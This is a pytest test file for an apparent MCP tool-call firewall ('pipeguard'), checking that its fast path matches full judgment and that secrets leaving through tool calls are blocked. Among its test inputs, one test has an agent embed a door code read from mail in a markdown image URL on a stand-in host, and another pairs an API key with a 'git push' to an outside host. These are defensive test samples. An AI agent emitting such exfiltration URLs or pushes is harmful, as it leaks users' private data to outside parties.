"""Plain calls: one look at a call or a result finds the same as judging it in full."""

import json
from collections.abc import Iterator, Sequence
from random import Random
from types import SimpleNamespace
from typing import cast

import pytest

from pipeguard import Action, Direction, Frame, Session, Verdict
from pipeguard.detect.detector import Detection, get_detection
from pipeguard.detect.flows import secret_egress, way_out
from pipeguard.detect.flows.ledger import Flows
from pipeguard.detect.plain import OutlinedFrame
from pipeguard.firewall.policy import ActionEntry, Layer, Policy, Selector
from pipeguard.firewall.session import replies
from pipeguard.firewall.session.guard import Guard, ObstacleSource
from pipeguard.transports.pump import take_frame
from tests.detect.test_quiet import calls
from tests.firewall.session.talk import (
    KEY,
    ORDER,
    TO_CLIENT,
    answer,
    call,
    frame,
    member,
    new_session,
    rules,
    to_client,
    to_server,
)
from tests.fuzz.rulebook import ALL, samples

TURNS = 120  # of each conversation
SEEDS = 3
# What a tool says that it does decides what is compared with what came back.
TOOLS = {
    "lookup": "Looks up an entry of the catalogue.",
    "read_mail": "Reads the user's private mail.",
    "fetch": "Fetches a web page from the internet.",
    "send_message": "Sends a message to anybody on the internet.",
    "write_file": "Writes a text into a file.",
    "run_command": "Runs a command in the shell.",
    "delete_item": "Deletes an item for good.",
    "echo": "",
}


def list_tools(session: Session, names: Sequence[str] = tuple(TOOLS)) -> None:
    """Let the client list the tools, which pins them."""
    schema = {"type": "object", "properties": {"text": {"type": "string"}}}
    listed = [
        {"name": name, "description": TOOLS.get(name, f"Is {name}."), "inputSchema": schema}
        for name in names
    ]
    assert to_server(session, frame(id="list", method="tools/list")).forward
    assert to_client(session, frame(id="list", result={"tools": listed})).forward


def with_tools() -> Session:
    session = new_session()
    list_tools(session)
    return session


def ordinary_arguments() -> list[object]:
    """Typical tool arguments, forbidden ones, and samples that rules must or must not find."""
    groups = [group for name in ("quiet.yaml", "stopped.yaml") for group in calls(name).values()]
    played = [one["arguments"] for group in groups for one in group if "arguments" in one]
    found = [{"text": sample.text} for sample in samples()]
    passes = [text for rule in ALL.values() for text in rule.passes]
    passed = [{"input": {"text": text}} for text in passes if isinstance(text, str)]
    plain = [{}, {"text": "What is new in this month?"}, {"id": 12, "names": ["Ada", "Max"]}]
    odd: list[object] = [
        {"url": "https://example.org/a"},
        {"text": "Zoë — ok"},
        {"text": "a\\b \u2028"},
    ]
    odd += [{"n": [1]}]
    return [*played, *found, *passed, *(plain * 200), *(odd * 50)]


def turns(seed: int) -> Iterator[tuple[bytes, bytes]]:
    """Calls with their results; some are odd as clients and servers are."""
    dice = Random(seed)  # noqa: S311  no secret
    given = ordinary_arguments()
    for number in range(TURNS):
        arguments = dice.choice(given)
        name = dice.choice([*TOOLS, "unlisted"])
        params: dict[str, object] = {"name": name, "arguments": arguments}
        params |= dice.choice([{}, {}, {"_meta": {"progressToken": number}}, {"task": {}}])
        if dice.random() < 0.02:
            params["constructor"] = 1
        text = json.dumps(dice.choice(given)) if dice.random() < 0.3 else "Nothing is new."
        manual = "\\fBls\\fR \\- list\\nfiles\\n" + text
        text = dice.choice([text, text, manual, f"{ORDER} {text}", f"PipeGuard: {text}", KEY])
        result: dict[str, object] = {"content": [{"type": "text", "text": text}]}
        result |= dice.choice([{}, {}, {"isError": True}, {"structuredContent": {"text": text}}])
        result |= dice.choice([{}, {}, {"_meta": {replies.MARK: {}}}, {"resultType": "task"}])
        asked = frame(id=number, method="tools/call", params=params)
        yield asked, frame(id=number, result=result)


def play(seed: int, policy: Policy) -> list[Verdict]:
    """Return the verdicts on a conversation; in the last one the client lists no tools."""
    session = new_session(policy)
    if seed < SEEDS - 1:
        list_tools(session)
    verdicts = []
    for number, (asked, answered) in enumerate(turns(seed)):
        verdicts.append(to_server(session, asked, number / 10))
        if verdicts[-1].forward is not None:
            verdicts.append(to_client(session, answered, number / 10))
    return verdicts


@pytest.mark.slow
@pytest.mark.parametrize("seed", range(SEEDS))
def test_one_look_gives_the_verdict_of_all_ways(seed: int, monkeypatch: pytest.MonkeyPatch) -> None:
    policy = Policy(layers=(Layer(tools_block=("delete*",), tools_ask=("write*",)),))
    by_one_look = play(seed, policy)
    monkeypatch.setattr(Detection, "look", lambda *_: None)
    in_all_ways = play(seed, policy)
    for fast, slow in zip(by_one_look, in_all_ways, strict=True):
        assert fast == slow
    assert {verdict.action for verdict in by_one_look} >= {Action.ALLOW, Action.WARN, Action.BLOCK}


def test_a_plain_call_and_its_result_are_read_by_one_look(monkeypatch: pytest.MonkeyPatch) -> None:
    sessions = with_tools(), new_session()
    monkeypatch.setattr(Detection, "read", None)
    for number, session in enumerate(sessions * 2):
        arguments = {"query": f"What is new in week {number}?", "path": "/etc/hosts"}
        params = {"name": "lookup", "arguments": {**arguments, "command": "ls"}}
        asked = frame(id=number, method="tools/call", params=params)
        assert to_server(session, asked).forward == asked
        answered = answer(number, f"Note 2b1f6a8e-3c4d-4e5f-8a6b-7c8d9e0f1a{number}b.")
        assert to_client(session, answered).forward == answered


def test_calls_are_plain_again_after_the_beginning_of_a_key(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    session = with_tools()
    assert to_server(session, call("key", "it is ghp_abcdefgh", "lookup")).forward
    for number in range(40):
        to_server(session, call(number, f"week {number}", "lookup"))
    monkeypatch.setattr(Detection, "read", None)
    assert to_server(session, call("after", "week", "lookup")).forward


def test_a_call_with_an_id_in_use_is_refused_unread(monkeypatch: pytest.MonkeyPatch) -> None:
    session = with_tools()
    assert to_server(session, call(1, "it is ghp_abcdefgh", "lookup")).forward
    monkeypatch.setattr(Detection, "read", None)
    refused = to_server(session, call(1, ORDER, "lookup"))
    assert rules(refused) == ["protocol.id-in-use"]


def test_a_call_is_looked_at_under_one_policy(monkeypatch: pytest.MonkeyPatch) -> None:
    """The rest of a key: one policy blocks it by a rule, and the next one by the tool."""
    session, may_leak = new_session(), OutlinedFrame.may_leak
    list_tools(session)
    warns = ActionEntry(Selector(rule="secrets.*"), Action.WARN)
    other = Policy(layers=(Layer(actions=(warns,), tools_block=("lookup",)),))

    def replace_policy(self: OutlinedFrame, guard: Guard) -> bool:
        guard.adopt(other)
        return may_leak(self, guard)

    begins = call(1, f"the key begins with {KEY[:28]}", "lookup")
    assert to_server(session, begins).forward
    monkeypatch.setattr(OutlinedFrame, "may_leak", replace_policy)
    assert to_server(session, call(2, KEY[28:], "lookup")).action is Action.BLOCK


def remember() -> list[object]:
    """Return the state that calls and a result leave, for each request and in the ledger."""
    session, stays = new_session(), list[object]()
    list_tools(session)
    flows = get_detection(session.guard).knowledge.flows
    for number, text in enumerate(("week", "it is ghp_abcdefgh", "mail ada@example.org")):
        params = {"name": "send_message", "arguments": {"text": text, "id": f"ID-{number}7"}}
        params["_meta"] = {"progressToken": f"t{number}"}
        asked = frame(id=number, method="tools/call", params=params)
        to_server(session, asked)
        request = session.state.list_sent()[0][-1]
        assert request.call is not None
        fields = [name for name in dir(request) if name[0] != "_" and name != "call"]
        written = {name: getattr(request, name) for name in fields}
        stays += [written, request.call.facts, flows.size()]
    answered = to_client(session, answer(0, "Ask ada@example.org."), 5.0)
    tool = get_detection(session.guard).knowledge.tools.label(session.guard, "send_message")
    stays += [answered, flows.size(), flows.passed_calls(tool), flows.find_sources("ada@")]
    return [*stays, flows.join_key("other", ["9f86d081884c7d65"]), session.state.waiting_ids()]


def test_a_plain_call_leaves_what_full_judgment_leaves(monkeypatch: pytest.MonkeyPatch) -> None:
    by_one_look = remember()
    monkeypatch.setattr(Detection, "look", lambda *_: None)
    assert by_one_look == remember()


def test_a_call_that_is_not_sent_leaves_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    session = with_tools()
    monkeypatch.setattr(Flows, "record_request", None)
    refused = to_server(session, call(1, "it is ghp_abcdefgh", "lookup"))
    assert rules(refused) == ["protocol.internal"]
    assert (
        get_detection(session.guard).knowledge.flows.join_key("other", ["9f86d081884c7d65"]) == []
    )
    monkeypatch.undo()
    assert to_server(session, call(1, "week", "lookup")).forward


def test_a_call_of_a_tool_that_is_blocked_since_it_was_listed_does_not_pass() -> None:
    session = with_tools()
    assert to_server(session, call(1, "week", "lookup")).forward
    session.guard.adopt(Policy(layers=(Layer(tools_block=("lookup",)),)))
    assert rules(to_server(session, call(2, "week", "lookup"))) == ["policy.tool"]


def test_an_answer_to_no_call_is_not_passed_by_one_look() -> None:
    session = new_session()
    params = {"protocolVersion": "2025-06-18", "capabilities": {}}
    to_server(session, frame(id=1, method="initialize", params=params))
    passed = to_client(session, answer(1, "ok"))
    assert (passed.method, passed.tool) == ("initialize", None)
    assert session.state.peers.agreed


def test_the_caller_of_a_plain_call_is_noted() -> None:
    session, callers = new_session(), list[str]()
    list_tools(session)
    source = cast(ObstacleSource, SimpleNamespace(add_caller=callers.append))
    session.guard.shared.obstacles = source
    assert take_frame(session, Direction.TO_SERVER, call(1, "week", "lookup")).forward
    assert callers == ["RUN"]


def test_an_address_that_takes_what_was_read_along_does_not_pass() -> None:
    session = new_session()
    list_tools(session, ["read_mail", "read_calendar"])  # one that sends nothing itself
    code = "q7Wz3kP9" + "xL2mV8tR4sN6"
    to_server(session, call(1, "inbox", "read_mail"))
    to_client(session, answer(1, f"The door code of the office: {code}."))
    shown = call(2, f"![logo](https://shop.example/{code}.png)", "read_calendar")
    assert rules(to_server(session, shown)) == ["flows.secret-out"]


def test_of_two_answers_at_once_one_passes(monkeypatch: pytest.MonkeyPatch) -> None:
    session, sees_nothing = new_session(), OutlinedFrame.sees_nothing
    list_tools(session)
    others = list[Verdict]()

    def answer_meanwhile(self: OutlinedFrame, *looked_at: object) -> bool:
        monkeypatch.setattr(OutlinedFrame, "sees_nothing", sees_nothing)
        others.append(session.take(Frame(TO_CLIENT, answer(1, "Much."), 0.0, is_aside=True)))
        return True

    to_server(session, call(1, "week", "lookup"))
    monkeypatch.setattr(OutlinedFrame, "sees_nothing", answer_meanwhile)
    first = to_client(session, answer(1, "Little."))
    assert first.forward == answer(1, "Little.")
    (other,) = others
    assert (other.forward, rules(other)) == (None, ["protocol.unknown-answer"])


def test_a_result_that_cannot_be_remembered_is_replaced(monkeypatch: pytest.MonkeyPatch) -> None:
    session = with_tools()
    to_server(session, call(1, "week", "lookup"))
    monkeypatch.setattr(Flows, "record_result", None)
    withheld = to_client(session, answer(1, "Little."))
    assert rules(withheld) == ["protocol.internal"]
    assert (member(withheld.forward, "id"), session.state.waiting_ids()) == (1, [])


def test_no_text_is_kept_once_it_is_judged() -> None:
    session = with_tools()
    secret = "api_key = " + KEY
    for number in range(2):
        text = f"https://a.example/{number} {secret} and git push https://b.example {secret}"
        to_server(session, call(number, text, "send_message"))
    found = secret_egress._find_addresses
    for cache in (way_out._commands, way_out._reaches_host, way_out._addresses, found):
        assert cache.cache_info().currsize == 0


def test_what_a_look_cannot_judge_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: object) -> None:
        raise ZeroDivisionError

    session = with_tools()
    assert to_server(session, call(1, "a", "lookup")).forward is not None
    monkeypatch.setattr("pipeguard.detect.scanning.first_look.glance", fail)
    assert to_server(session, call(2, "b", "lookup")).action is Action.BLOCK
    assert to_client(session, answer(1, "a")).action is Action.BLOCK
    assert session.state.waiting_ids() == []


@pytest.mark.parametrize(
    "text", ["Little.", "The quiet meeting moves the report, and then it stops."]
)
def test_a_short_message_that_was_clean_passes_unread(text: str) -> None:
    session = with_tools()
    for number in (1, 20):
        asked, answered = call(number, text, "lookup"), answer(number, text)
        assert to_server(session, asked).forward is asked
        assert to_client(session, answered).forward is answered
        detection = get_detection(session.guard)
        detection.knowledge = detection.knowledge._replace(scanners={})  # nothing can be read now
